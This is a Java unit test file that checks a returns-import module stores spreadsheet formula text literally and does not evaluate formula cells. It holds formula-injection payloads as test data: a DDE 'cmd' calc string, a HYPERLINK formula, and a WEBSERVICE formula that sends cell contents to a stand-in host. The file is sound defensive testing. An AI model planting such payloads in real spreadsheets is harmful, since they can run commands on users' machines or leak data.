package uk.gov.tfwh.returns.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import uk.gov.tfwh.returns.ReturnWriter;
import uk.gov.tfwh.returns.model.ReturnSummary;

/**
 * Text that a spreadsheet would run as a formula ({@code = + - @} first) is kept as the text it is,
 * in CSV and XLSX; a workbook's formula cell is read by its cached value, never evaluated. Exports
 * defuse such text when they write it (api/exports).
 */
class FormulaTextTest {
  private static final String DDE = "=cmd|' /C calc'!A0";
  private static final String HYPERLINK = "=HYPERLINK(\"http://example.invalid/x\",\"click\")";

  @TempDir Path dir;

  @Test
  void csvFormulaTextIsStoredExactly() {
    new ReturnWriter(dir)
        .set("sro_sign_off", DDE)
        .set("submitted_by", "+cmd@example.gov.uk")
        .write("r");

    HostileFiles.Reading reading = HostileFiles.readOnlyReturn(dir);

    assertThat(reading.outcome().accepted()).as(reading.outcome().findings().toString()).isTrue();
    ReturnSummary summary = reading.outcome().summary().orElseThrow();
    assertThat(summary.sroSignOff()).isEqualTo(DDE);
    assertThat(summary.submittedBy()).isEqualTo("+cmd@example.gov.uk");
  }

  @Test
  void workbookFormulaTextAndFormulaCellsAreNotEvaluated() throws IOException {
    String sheet = HostileFiles.examplePart(HostileFiles.SUMMARY_SHEET);
    String hostile =
        sheet
            .replace(
                "<t xml:space=\"preserve\">A. Director</t>",
                "<t xml:space=\"preserve\">" + xml(HYPERLINK) + "</t>")
            // A formula cell for submitted_by: its cached text is what the return says.
            .replace(
                "<c r=\"L2\" t=\"inlineStr\"><is><t xml:space=\"preserve\">tf.returns@example.gov.uk</t></is></c>",
                "<c r=\"L2\" t=\"str\"><f>WEBSERVICE(\"http://example.invalid/\"&amp;A1)</f>"
                    + "<v>tf.returns@example.gov.uk</v></c>");
    assertThat(hostile).isNotEqualTo(sheet).contains("WEBSERVICE", "HYPERLINK");
    HostileFiles.workbook(
        dir.resolve("formulas.xlsx"),
        Map.of(
            HostileFiles.SUMMARY_SHEET,
            out -> {
              try {
                out.write(hostile.getBytes(StandardCharsets.UTF_8));
              } catch (IOException e) {
                throw new UncheckedIOException(e);
              }
            }));

    HostileFiles.Reading reading = HostileFiles.readOnlyReturn(dir);

    assertThat(reading.outcome().accepted()).as(reading.outcome().findings().toString()).isTrue();
    ReturnSummary summary = reading.outcome().summary().orElseThrow();
    assertThat(summary.sroSignOff()).isEqualTo(HYPERLINK);
    assertThat(summary.submittedBy()).isEqualTo("tf.returns@example.gov.uk");
  }

  private static String xml(String text) {
    return text.replace("&", "&amp;").replace("<", "&lt;").replace("\"", "&quot;");
  }
}
